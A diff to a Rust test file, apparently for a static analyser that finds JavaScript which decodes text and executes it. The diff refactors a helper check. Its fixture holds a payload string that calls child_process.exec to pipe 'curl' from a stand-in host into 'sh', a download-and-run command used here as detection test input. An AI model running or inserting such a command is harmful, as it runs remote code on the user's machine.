@@ -1,8 +1,12 @@
 //! Decoders that a program writes out itself: what they give is read as code.
 
+mod support;
+
 use foretaste_javascript::observe;
 use foretaste_model::facts::FileFacts;
 use foretaste_model::{Capability, Limits};
+
+use support::runs;
 
 const PAYLOAD: &str =
     "require('child_process').exec('curl https://c.example.invalid/x | sh'); // over";
@@ -22,15 +26,12 @@ fn codes(key: u32, step: u32) -> String {
 /// The code comes out, as a layer that is executed, and the chain is seen.
 fn comes_out(name: &str, text: &str) {
     let facts = facts(text);
-    let runs = facts.layers.iter().any(|layer| {
-        layer.executed
-            && layer
-                .facts
-                .uses
-                .iter()
-                .any(|u| &*u.api == "child_process.exec")
-    });
-    assert!(runs, "{name}: {:#?}\n{:#?}", facts.layers, facts.uses);
+    assert!(
+        runs(&facts),
+        "{name}: {:#?}\n{:#?}",
+        facts.layers,
+        facts.uses
+    );
     let decodes = facts.flows.iter().any(|f| {
         f.steps.first().map(|s| s.capability) == Some(Capability::DecodeText)
             && f.steps.last().map(|s| s.capability) == Some(Capability::CodeEval)
